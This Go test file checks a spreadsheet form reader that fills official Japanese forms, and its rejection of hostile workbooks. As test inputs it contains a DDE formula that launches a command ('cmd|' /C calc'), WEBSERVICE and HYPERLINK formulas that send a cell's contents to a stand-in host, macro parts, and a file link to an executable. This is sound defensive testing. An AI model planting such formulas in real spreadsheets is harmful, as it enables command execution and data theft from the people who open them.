package read_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"kanmin/internal/adapter/format/sheet"
	"kanmin/internal/adapter/format/sheet/read"
)

// official is a form as an authority would publish one, made up: a title over merged cells, boxes with frames, a box that is calculated,
// a choice from a list, a sheet of notes.
func official(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	check := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	check(f.SetSheetName("Sheet1", "様式見本"))
	frame, err := f.NewStyle(&excelize.Style{Border: []excelize.Border{{Type: "left", Style: 1, Color: "000000"}}, Alignment: &excelize.Alignment{WrapText: true}})
	check(err)
	for at, v := range map[string]any{"A1": "共通様式(見本)", "A3": "名称", "A4": "概要", "A5": "DDoS", "A6": "その他", "A7": "件数", "A8": "件数の2倍"} {
		check(f.SetCellValue("様式見本", at, v))
	}
	check(f.MergeCell("様式見本", "A1", "F1"))
	check(f.MergeCell("様式見本", "B4", "F4"))
	check(f.SetCellStyle("様式見本", "B3", "B7", frame))
	check(f.SetCellFormula("様式見本", "B8", "B7*2"))
	check(f.SetRowHeight("様式見本", 12, 30)) // a row without cells
	rule := excelize.NewDataValidation(true)
	rule.Sqref = "B6"
	check(rule.SetDropList([]string{"○", "×"}))
	check(f.AddDataValidation("様式見本", rule))
	_, err = f.NewSheet("注")
	check(err)
	check(f.SetCellValue("注", "A1", "この様式は見本です"))
	var b bytes.Buffer
	check(f.Write(&b))
	return b.Bytes()
}

func filling(t *testing.T, book []byte, puts ...sheet.Put) ([]byte, *sheet.Fault) {
	t.Helper()
	in, err := sheet.Filling(book, puts)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	f, err := read.Read(sheet.Fill, bytes.NewReader(in), sheet.NewWriter(&out), nil)
	if err != nil {
		t.Fatal(err)
	}
	file, err := sheet.Filled(&out)
	if told, ok := errors.AsType[*sheet.Fault](err); err != nil && (!ok || f == nil || told.Code != f.Code) {
		t.Fatalf("the answer does not say what was found: %v, %v", err, f)
	}
	return file, f
}

func contents(t *testing.T, book []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	all := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		all[f.Name] = string(text)
	}
	return all
}

func TestWhatAFormIs(t *testing.T) {
	t.Parallel()
	_, b, f := reading(t, sheet.Form, official(t))
	if f != nil {
		t.Fatal(f)
	}
	if len(b.Sheets) != 2 || b.Sheets[0].Name != "様式見本" || b.Sheets[1].Name != "注" {
		t.Fatalf("%+v", b.Sheets)
	}
	if d := cmp.Diff([]string{"A1:F1", "B4:F4"}, b.Sheets[0].Merged); d != "" {
		t.Error(d)
	}
	want := []sheet.Row{{N: 8, Cells: []sheet.Cell{{Col: 2, Formula: true}}}}
	if d := cmp.Diff(want, b.Sheets[0].Rows); d != "" {
		t.Error("nothing but what is calculated is told:", d)
	}
}

func TestAFormIsFilledAndNothingElseOfItChanges(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(part, text string) string{
		"as it is": func(_, text string) string { return text },
		"with names that have a prefix": func(part, text string) string {
			if part != "xl/worksheets/sheet1.xml" {
				return text
			}
			text = strings.ReplaceAll(strings.ReplaceAll(text, "</", "</x:"), "<x:worksheet", "<worksheet")
			for _, e := range []string{"worksheet", "sheetPr", "dimension", "sheetViews", "sheetView", "sheetFormatPr", "cols", "col ", "sheetData", "row", "c ", "v>", "f>", "is>", "t>", "mergeCells", "mergeCell ", "dataValidations", "dataValidation ", "formula1", "pageMargins", "selection"} {
				text = strings.ReplaceAll(text, "<"+e, "<x:"+e)
			}
			return strings.Replace(text, "xmlns=", "xmlns:x=", 1)
		},
		"without addresses": func(part, text string) string {
			if part == "xl/worksheets/sheet2.xml" {
				return strings.Replace(strings.Replace(text, `<row r="1"`, `<row`, 1), `<c r="A1"`, `<c`, 1)
			}
			return text
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			form := edited(t, official(t), change)
			puts := []sheet.Put{
				{Sheet: "様式見本", Col: 2, Row: 3, Text: "=1+1"}, {Sheet: "様式見本", Col: 2, Row: 4, Text: "一行目\n<二行目> & _x0041_"}, {Sheet: "様式見本", Col: 2, Row: 7, Text: "21", Number: true},
				{Sheet: "様式見本", Col: 4, Row: 3, Text: "右"}, {Sheet: "様式見本", Col: 3, Row: 12, Text: "高さだけの行"}, {Sheet: "様式見本", Col: 1, Row: 40, Text: "下"}, {Sheet: "様式見本", Col: 1, Row: 9, Text: "間"}, {Sheet: "注", Col: 2, Row: 1, Text: "○"},
			}
			file, f := filling(t, form, puts...)
			if f != nil {
				t.Fatal(f)
			}
			x, err := excelize.OpenReader(bytes.NewReader(file))
			if err != nil {
				t.Fatal("another program cannot read it:", err)
			}
			for _, p := range puts {
				at := sheet.Address(p.Col, p.Row)
				if got, err := x.GetCellValue(p.Sheet, at); err != nil || got != p.Text {
					t.Errorf("%s %s: %q, %v", p.Sheet, at, got, err)
				}
				if formula, _ := x.GetCellFormula(p.Sheet, at); formula != "" {
					t.Errorf("%s is calculated: %s", at, formula)
				}
			}
			unchanged(t, form, file)
		})
	}
}

// unchanged: what was not written stands as before, with its styles, in bytes where no sheet was touched.
func unchanged(t *testing.T, form, file []byte) {
	t.Helper()
	was, err := excelize.OpenReader(bytes.NewReader(form))
	if err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	for at, want := range map[string]string{"A1": "共通様式(見本)", "A8": "件数の2倍"} {
		if got, _ := x.GetCellValue("様式見本", at); got != want {
			t.Errorf("%s: %q", at, got)
		}
	}
	if formula, _ := x.GetCellFormula("様式見本", "B8"); formula != "B7*2" {
		t.Errorf("the box that is calculated: %q", formula)
	}
	for _, at := range []string{"B4", "B7"} {
		a, _ := was.GetCellStyle("様式見本", at)
		if b, _ := x.GetCellStyle("様式見本", at); a != b || a == 0 {
			t.Errorf("%s: style %d, was %d", at, b, a)
		}
	}
	quoted, _ := x.GetCellStyle("様式見本", "B3")
	s, err := x.GetStyle(quoted)
	if plain, _ := was.GetCellStyle("様式見本", "B3"); err != nil || quoted == plain || len(s.Border) != 1 || !s.Alignment.WrapText {
		t.Errorf("a text that could be calculated: style %d, %+v, %v", quoted, s, err)
	}
	before, after := contents(t, form), contents(t, file)
	if !strings.Contains(after["xl/styles.xml"], `quotePrefix="1"`) {
		t.Error("a text that could be calculated is no text once it is edited")
	}
	for name, text := range before {
		changed := []string{"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/styles.xml", "xl/workbook.xml"}
		if !slices.Contains(changed, name) && after[name] != text || after[name] == "" {
			t.Errorf("%s changed", name)
		}
	}
	if rules, err := x.GetDataValidations("様式見本"); err != nil || len(rules) != 1 {
		t.Errorf("%d validations, %v", len(rules), err)
	}
}

func TestWhatIsCalculatedIsCalculatedAnew(t *testing.T) {
	t.Parallel()
	form := edited(t, official(t), func(part, text string) string {
		if part == "xl/workbook.xml" {
			return strings.Replace(text, "</sheets>", `</sheets><calcPr calcId="191029"/>`, 1)
		}
		return text
	})
	file, f := filling(t, form, sheet.Put{Sheet: "様式見本", Col: 2, Row: 7, Text: "4", Number: true})
	if f != nil {
		t.Fatal(f)
	}
	if w := contents(t, file)["xl/workbook.xml"]; !strings.Contains(w, `<calcPr fullCalcOnLoad="1" calcId="191029"/>`) {
		t.Errorf("a program that opens it shows what was calculated before: %s", w)
	}
}

func TestAFormThatDoesMoreThanAskIsRefused(t *testing.T) {
	t.Parallel()
	const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%</Relationships>`
	link := func(kind, target string) string {
		return strings.Replace(rels, "%", `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/`+kind+`" Target="`+target+`" TargetMode="External"/>`, 1)
	}
	put := func(part, from, to string) func(string, string) string {
		return func(name, text string) string {
			if name == part {
				return strings.Replace(text, from, to, 1)
			}
			return text
		}
	}
	formula := func(f string) func(string, string) string {
		return put("xl/worksheets/sheet1.xml", "<f>B7*2</f>", "<f>"+f+"</f>")
	}
	whole := func(name, text string) map[string]string { return map[string]string{name: text} }
	for name, c := range map[string]struct {
		change func(part, text string) string
		add    map[string]string
		code   string
	}{
		"macros":                     {add: whole("xl/vbaProject.bin", "x"), code: "fault.sheet.macro"},
		"said to have macros":        {change: put("[Content_Types].xml", "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"), code: "fault.sheet.macro"},
		"a name that runs":           {change: put("xl/workbook.xml", "</sheets>", `</sheets><definedNames><definedName name="a" xlm="1">注!$A$1</definedName></definedNames>`), code: "fault.sheet.macro"},
		"an embedded document":       {add: whole("xl/embeddings/oleObject1.bin", "x"), code: "fault.sheet.embedded"},
		"a connection":               {add: whole("xl/connections.xml", "<connections/>"), code: "fault.sheet.embedded"},
		"another book":               {add: whole("xl/externalLinks/externalLink1.xml", "<externalLink/>"), code: "fault.sheet.links"},
		"a picture from elsewhere":   {add: whole("xl/worksheets/_rels/sheet1.xml.rels", link("image", "https://example.jp/a.png")), code: "fault.sheet.links"},
		"a link to a file":           {add: whole("xl/worksheets/_rels/sheet1.xml.rels", link("hyperlink", "file://server/share/a.exe")), code: "fault.sheet.links"},
		"a link that is pressed":     {add: whole("xl/worksheets/_rels/sheet1.xml.rels", link("hyperlink", "https://www.example.go.jp/")), code: ""},
		"a formula that asks a page": {change: formula(`_xlfn.WEBSERVICE("https://example.jp/?"&amp;B3)`), code: "fault.sheet.reach"},
		"a formula that runs":        {change: formula(`cmd|' /C calc'!A0`), code: "fault.sheet.reach"},
		"a formula with a link":      {change: formula(`HYPERLINK("https://example.jp/?"&amp;B3,"見る")`), code: "fault.sheet.reach"},
		"a formula with a bar":       {change: formula(`"a|b"&amp;B7`), code: ""},
		"a rule that asks a page":    {change: put("xl/worksheets/sheet1.xml", "<formula1>", "<formula1>WEBSERVICE(B3)&amp;"), code: "fault.sheet.reach"},
		"no book":                    {change: put("[Content_Types].xml", "sheet.main+xml", "template.main+xml"), code: "fault.sheet.other"},
		"two tables of rows":         {change: put("xl/worksheets/sheet1.xml", "<sheetData>", "<sheetData></sheetData><sheetData>"), code: "fault.sheet.damaged"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			form := official(t)
			if c.change != nil {
				changed := edited(t, form, c.change)
				if cmp.Equal(contents(t, form), contents(t, changed)) {
					t.Fatal("nothing was changed")
				}
				form = changed
			}
			form = adding(t, form, c.add)
			_, _, f := reading(t, sheet.Form, form)
			_, g := filling(t, form)
			for _, f := range []*sheet.Fault{f, g} {
				if got := ""; f != nil || c.code != "" {
					if f != nil {
						got = f.Code
					}
					if got != c.code && !(g == f && c.code == "fault.sheet.damaged") { // nothing is written, so no sheet is opened
						t.Errorf("%q, want %q", got, c.code)
					}
				}
			}
		})
	}
}

// adding puts parts beside those of a book.
func adding(t *testing.T, book []byte, parts map[string]string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	out := zip.NewWriter(&b)
	for _, f := range z.File {
		if err := out.Copy(f); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range parts {
		w, err := out.Create(name)
		if err == nil {
			_, err = io.WriteString(w, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestWhatCannotBeWritten(t *testing.T) {
	t.Parallel()
	form := official(t)
	array := edited(t, form, func(part, text string) string {
		if part != "xl/worksheets/sheet1.xml" {
			return text
		}
		return strings.Replace(text, "<f>B7*2</f>", `<f t="array" ref="A7:B8">B3:C4</f>`, 1)
	})
	for name, c := range map[string]struct {
		form []byte
		put  sheet.Put
		code string
	}{
		"what is calculated":           {form, sheet.Put{Sheet: "様式見本", Col: 2, Row: 8, Text: "1"}, "fault.template.formula"},
		"what a formula fills as well": {array, sheet.Put{Sheet: "様式見本", Col: 1, Row: 7, Text: "1"}, "fault.template.formula"},
		"a sheet that is not there":    {form, sheet.Put{Sheet: "別紙", Col: 1, Row: 1, Text: "1"}, "fault.template.sheet"},
		"a text longer than Excel's":   {form, sheet.Put{Sheet: "様式見本", Col: 2, Row: 3, Text: strings.Repeat("長", sheet.MaxText+1)}, "fault.sheet.text"},
		"a form that is no book":       {[]byte("a,b\n"), sheet.Put{Sheet: "様式見本", Col: 2, Row: 3, Text: "1"}, "fault.sheet.other"},
		"a form that was cut off":      {form[:len(form)/2], sheet.Put{Sheet: "様式見本", Col: 2, Row: 3, Text: "1"}, "fault.sheet.damaged"},
		"a form of another kind":       {[]byte("%PDF-1.7"), sheet.Put{}, "fault.sheet.pdf"},
		"the same cell a second time":  {form, sheet.Put{Sheet: "様式見本", Col: 2, Row: 4, Text: "1"}, "fault.sheet.damaged"},
	} {
		puts := []sheet.Put{c.put}
		if name == "the same cell a second time" {
			puts = append(puts, c.put)
		}
		if _, f := filling(t, c.form, puts...); f == nil || f.Code != c.code {
			t.Errorf("%s: %v, want %s", name, f, c.code)
		}
	}
	var out bytes.Buffer
	if f, err := read.Read(sheet.Fill, strings.NewReader("no list\nPK"), sheet.NewWriter(&out), nil); err != nil || f == nil {
		t.Errorf("what is no filling: %v, %v", f, err)
	}
}
